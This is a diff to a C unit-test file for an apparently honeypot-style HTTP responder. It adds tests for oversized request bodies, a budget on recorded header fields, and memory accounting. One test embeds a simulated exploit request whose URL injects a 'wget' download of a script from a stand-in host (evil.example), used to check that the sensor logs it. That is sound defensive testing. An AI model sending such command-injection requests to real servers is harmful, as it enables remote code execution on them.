@@ -202,14 +202,10 @@ static const struct {
      "HTTP/1.1 400 Bad Request\r\n"},
     {"two lengths", "POST / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
      "HTTP/1.1 400 Bad Request\r\n"},
-    {"too large", "POST / HTTP/1.1\r\nContent-Length: 2000000\r\n\r\n",
-     "HTTP/1.1 413 Request Entity Too Large\r\n"},
     {"huge length", "POST / HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n",
      "HTTP/1.1 413 Request Entity Too Large\r\n"},
     {"bad chunk", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
      "HTTP/1.1 400 Bad Request\r\n"},
-    {"huge chunk", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffff\r\n",
-     "HTTP/1.1 413 Request Entity Too Large\r\n"},
     {"chunk crlf", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nab\r\n",
      "HTTP/1.1 400 Bad Request\r\n"},
     {"unknown te", "POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n",
@@ -322,6 +318,254 @@ static void test_memory_held(void **state)
 	assert_int_equal(resp_mem_held(), before);
 }
 
+/* A body past payload_max: read to its end, its first payload_max bytes kept
+ * and marked truncated, its whole length reported, then a 413. */
+static void test_big_body_content_length(void **state)
+{
+	struct resp_config cfg = {0};
+	cfg.max_payload = 1000;
+	char body[3000];
+	memset(body, 'C', sizeof(body));
+	memcpy(body, "MZ", 2);
+	char tx[4096];
+	int hl = snprintf(tx, sizeof(tx),
+	                  "POST /upload/big.exe HTTP/1.1\r\nHost: x\r\nContent-Length: %zu\r\n"
+	                  "Expect: 100-continue\r\n\r\n",
+	                  sizeof(body));
+	memcpy(tx + hl, body, sizeof(body));
+	struct tr_conn c;
+	tr_run_both(&c, &resp_http, &cfg, tx, (size_t)hl + sizeof(body));
+	assert_int_equal(c.act, RESP_CLOSE);
+	assert_true(tr_out_has(&c, "HTTP/1.1 100 Continue\r\n\r\n"
+	                           "HTTP/1.1 413 Request Entity Too Large\r\n"));
+	assert_true(tr_out_has(&c, "Connection: close\r\n"));
+	assert_int_equal(c.npl, 1);
+	assert_string_equal(c.pl[0].kind, "http_request_body");
+	assert_string_equal(c.pl[0].name, "big.exe");
+	assert_int_equal(c.pl[0].len, 1000);
+	assert_memory_equal(c.pl[0].data, body, 1000);
+	assert_int_equal(c.pl[0].truncated, 1);
+	assert_int_equal(tr_int(&c, "http.request_body_length"), 3000);
+	assert_int_equal(tr_int(&c, "http.status"), 413);
+	tr_close(&c);
+
+	/* nothing is answered before the body has been read */
+	tr_open(&c, &resp_http, &cfg);
+	assert_int_equal(tr_feed(&c, tx, (size_t)hl + 2000, 0), RESP_NEED_MORE);
+	assert_string_equal(tr_out(&c), "HTTP/1.1 100 Continue\r\n\r\n");
+	/* cut short past payload_max (max_bytes, the client gone): still kept */
+	tr_render(&c);
+	assert_int_equal(c.npl, 1);
+	assert_int_equal(c.pl[0].len, 1000);
+	assert_int_equal(c.pl[0].truncated, 1);
+	assert_int_equal(tr_int(&c, "http.request_body_length"), 2000);
+	tr_close(&c);
+
+	/* a body of exactly payload_max is whole and answered 200 */
+	hl = snprintf(tx, sizeof(tx),
+	              "PUT /ok.bin HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n");
+	memcpy(tx + hl, body, 1000);
+	tr_run_both(&c, &resp_http, &cfg, tx, (size_t)hl + 1000);
+	assert_int_equal(c.act, RESP_CONTINUE);
+	assert_true(tr_out_has(&c, "HTTP/1.1 200 OK\r\n"));
+	assert_int_equal(c.npl, 1);
+	assert_int_equal(c.pl[0].len, 1000);
+	assert_int_equal(c.pl[0].truncated, 0);
+	tr_close(&c);
+}
+
+static void test_big_body_chunked(void **state)
+{
+	struct resp_config cfg = {0};
+	cfg.max_payload = 1000;
+	static char tx[8192];
+	int n = snprintf(tx, sizeof(tx),
+	                 "POST /upload/malware.bin HTTP/1.1\r\nHost: x\r\n"
+	                 "Transfer-Encoding: chunked\r\n\r\n");
+	for (int i = 0; i < 3; i++) {
+		n += snprintf(tx + n, sizeof(tx) - (size_t)n, "3e8\r\n");
+		memset(tx + n, 'A' + i, 1000);
+		n += 1000;
+		n += snprintf(tx + n, sizeof(tx) - (size_t)n, "\r\n");
+	}
+	n += snprintf(tx + n, sizeof(tx) - (size_t)n, "0\r\n\r\n");
+	struct tr_conn c;
+	tr_run_both(&c, &resp_http, &cfg, tx, (size_t)n);
+	assert_int_equal(c.act, RESP_CLOSE);
+	assert_true(tr_out_has(&c, "HTTP/1.1 413 Request Entity Too Large\r\n"));
+	assert_int_equal(c.npl, 1);
+	assert_string_equal(c.pl[0].name, "malware.bin");
+	assert_int_equal(c.pl[0].len, 1000);
+	assert_int_equal(c.pl[0].data[999], 'A');
+	assert_int_equal(c.pl[0].truncated, 1);
+	assert_int_equal(tr_int(&c, "http.request_body_length"), 3000);
+	assert_int_equal(tr_int(&c, "http.status"), 413);
+	tr_close(&c);
+
+	/* a chunk announced far larger is read as it comes, until the end */
+	static const char huge[] = "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
+	                           "fffffffffff\r\n";
+	tr_open(&c, &resp_http, &cfg);
+	assert_int_equal(tr_feeds(&c, huge, 0), RESP_NEED_MORE);
+	tr_feed(&c, tx + 200, 1500, 0);
+	assert_int_equal(c.out.len, 0);
+	tr_render(&c);
+	assert_int_equal(c.npl, 1);
+	assert_int_equal(c.pl[0].len, 1000);
+	assert_int_equal(c.pl[0].truncated, 1);
+	assert_int_equal(tr_int(&c, "http.request_body_length"), 1500);
+	tr_close(&c);
+}
+
+/* Every header object of request i has its name and value. */
+static void assert_headers_whole(struct tr_conn *c, const char *path)
+{
+	int n = tr_count(c, path);
+	for (int k = 0; k < n; k++) {
+		if (tr_elem(c, path, k, "name") == NULL || tr_elem(c, path, k, "value") == NULL)
+			fail_msg("%s[%d] lacks its name or value", path, k);
+	}
+}
+
+/* The reviewer's transcript: four requests of 32 large headers, then the
+ * one that matters. Every request is recorded, within the budget. */
+static void test_fields_budget_keeps_every_request(void **state)
+{
+	static char tx[80000];
+	char pad[20000];
+	int n = snprintf(pad, sizeof(pad), "GET /pad HTTP/1.1\r\nHost: x\r\n");
+	for (int i = 0; i < 31; i++) {
+		n += snprintf(pad + n, sizeof(pad) - (size_t)n, "X-P%02d: ", i);
+		memset(pad + n, 'A', 510);
+		n += 510;
+		n += snprintf(pad + n, sizeof(pad) - (size_t)n, "\r\n");
+	}
+	snprintf(pad + n, sizeof(pad) - (size_t)n, "\r\n");
+	tx[0] = 0;
+	for (int i = 0; i < 4; i++)
+		strcat(tx, pad);
+	strcat(tx, "POST /cgi-bin/EXPLOIT.cgi?cmd=wget+http://evil.example/x.sh HTTP/1.1\r\n"
+	           "Host: victim\r\nUser-Agent: EVILBOT\r\nContent-Length: 5\r\n"
+	           "Connection: close\r\n\r\nHELLO");
+	struct tr_conn c;
+	run(&c, tx, NULL);
+	assert_int_equal(c.act, RESP_CLOSE);
+	assert_true(tr_fields_len(&c) <= 40 * 1024);
+	assert_int_equal(tr_count(&c, "http_requests"), 5);
+	assert_string_equal(tr_elem(&c, "http_requests", 4, "url"),
+	                    "/cgi-bin/EXPLOIT.cgi?cmd=wget+http://evil.example/x.sh");
+	assert_string_equal(tr_elem(&c, "http_requests", 4, "http_user_agent"), "EVILBOT");
+	assert_string_equal(tr_elem(&c, "http_requests", 4, "hostname"), "victim");
+	assert_string_equal(tr_elem(&c, "http_requests", 4, "http_method"), "POST");
+	for (int i = 0; i < 4; i++)
+		assert_string_equal(tr_elem(&c, "http_requests", i, "url"), "/pad");
+	assert_headers_whole(&c, "http.request_headers");
+	/* some pad headers were not kept, and that is said */
+	struct ev_field f;
+	int dropped = 0;
+	struct ev_reader r;
+	ev_reader_init(&r, c.ev.data, c.ev.len);
+	while (ev_reader_next(&r, &f))
+		if (f.kind == EV_INT && f.keylen == 17 &&
+		    memcmp(f.key, "headers_truncated", 17) == 0)
+			dropped += (int)f.i;
+	assert_true(dropped > 0);
+	assert_int_equal(c.npl, 1);
+	assert_string_equal((char *)c.pl[0].data, "HELLO");
+	tr_close(&c);
+}
+
+/* The worst a client can send: eight requests with long URLs, a hundred
+ * headers of long binary values, Host and User-Agent last. */
+static void test_fields_budget_worst_case(void **state)
+{
+	size_t cap = 8 * 70000;
+	char *tx = malloc(cap);
+	size_t n = 0;
+	for (int q = 0; q < 8; q++) {
+		n += (size_t)snprintf(tx + n, cap - n, "GET /%d", q);
+		memset(tx + n, 'u', 3000);
+		n += 3000;
+		n += (size_t)snprintf(tx + n, cap - n, " HTTP/1.1\r\n");
+		for (int i = 0; i < 98; i++) {
+			n += (size_t)snprintf(tx + n, cap - n, "X-%02d-", i);
+			memset(tx + n, 'n', 40);
+			n += 40;
+			tx[n++] = ':';
+			tx[n++] = ' ';
+			for (int k = 0; k < 600; k++)
+				tx[n++] = (char)(0x80 + (k + i) % 0x7f);
+			tx[n++] = '\r';
+			tx[n++] = '\n';
+		}
+		n += (size_t)snprintf(tx + n, cap - n, "Host: host-%d.", q);
+		memset(tx + n, 'h', 600);
+		n += 600;
+		n += (size_t)snprintf(tx + n, cap - n, "\r\nUser-Agent: agent-%d/", q);
+		memset(tx + n, 'a', 600);
+		n += 600;
+		n += (size_t)snprintf(tx + n, cap - n, "\r\n\r\n");
+	}
+	struct tr_conn c;
+	tr_run_both(&c, &resp_http, NULL, tx, n);
+	assert_int_equal(c.act, RESP_CLOSE);
+	assert_true(tr_fields_len(&c) <= 40 * 1024);
+	assert_int_equal(tr_count(&c, "http_requests"), 8);
+	for (int q = 0; q < 8; q++) {
+		char want[32];
+		const char *v = tr_elem(&c, "http_requests", q, "url");
+		snprintf(want, sizeof(want), "/%duuu", q);
+		assert_non_null(v);
+		assert_memory_equal(v, want, strlen(want));
+		v = tr_elem(&c, "http_requests", q, "hostname");
+		snprintf(want, sizeof(want), "host-%d.hhh", q);
+		assert_non_null(v);
+		assert_memory_equal(v, want, strlen(want));
+		v = tr_elem(&c, "http_requests", q, "http_user_agent");
+		snprintf(want, sizeof(want), "agent-%d/aaa", q);
+		assert_non_null(v);
+		assert_memory_equal(v, want, strlen(want));
+		assert_string_equal(tr_elem(&c, "http_requests", q, "protocol"), "HTTP/1.1");
+	}
+	/* the last requests' long values were cut to fit, and say so */
+	const char *u = tr_elem(&c, "http_requests", 7, "url");
+	assert_string_equal(u + strlen(u) - 5, "[...]");
+	assert_headers_whole(&c, "http.request_headers");
+	tr_close(&c);
+	free(tx);
+}
+
+/* What is recorded counts in the worker's memory budget while the
+ * connection lives, and is given back, all of it, when it ends. */
+static void test_fields_memory_counted(void **state)
+{
+	char tx[8192];
+	size_t before = resp_mem_held();
+	struct tr_conn c;
+	tr_open(&c, &resp_http, NULL);
+	for (int q = 0; q < 7; q++) {
+		int n = snprintf(tx, sizeof(tx), "GET /%d HTTP/1.1\r\nHost: h\r\n", q);
+		for (int i = 0; i < 8; i++) {
+			n += snprintf(tx + n, sizeof(tx) - (size_t)n, "X-%d: ", i);
+			memset(tx + n, 'v', 400);
+			n += 400;
+			n += snprintf(tx + n, sizeof(tx) - (size_t)n, "\r\n");
+		}
+		n += snprintf(tx + n, sizeof(tx) - (size_t)n, "X-Fold: a\r\n b\r\n\r\n");
+		tr_feed(&c, tx, (size_t)n, 0);
+	}
+	/* 7 x 8 values of 400 bytes, besides the replies */
+	assert_true(resp_mem_held() - c.out.cap - before >= 7 * 8 * 400);
+	tr_render(&c);
+	assert_string_equal(tr_elem(&c, "http.request_headers", 9, "name"), "X-Fold");
+	assert_string_equal(tr_elem(&c, "http.request_headers", 9, "value"), "a b");
+	c.r->destroy(c.st);
+	c.st = NULL;
+	assert_int_equal(resp_mem_held() - c.out.cap, before);
+	resp_out_free(&c.out);
+	evbuf_free(&c.ev);
+}
+
 static void test_garbage(void **state)
 {
 	uint8_t junk[4096];
@@ -385,6 +629,11 @@ int main(void)
 	    cmocka_unit_test(test_slowloris_and_timeout),
 	    cmocka_unit_test(test_body_cut_short),
 	    cmocka_unit_test(test_memory_held),
+	    cmocka_unit_test(test_big_body_content_length),
+	    cmocka_unit_test(test_big_body_chunked),
+	    cmocka_unit_test(test_fields_budget_keeps_every_request),
+	    cmocka_unit_test(test_fields_budget_worst_case),
+	    cmocka_unit_test(test_fields_memory_counted),
 	    cmocka_unit_test(test_garbage),
 	    cmocka_unit_test(test_lookup),
 	    cmocka_unit_test(test_out_bound),
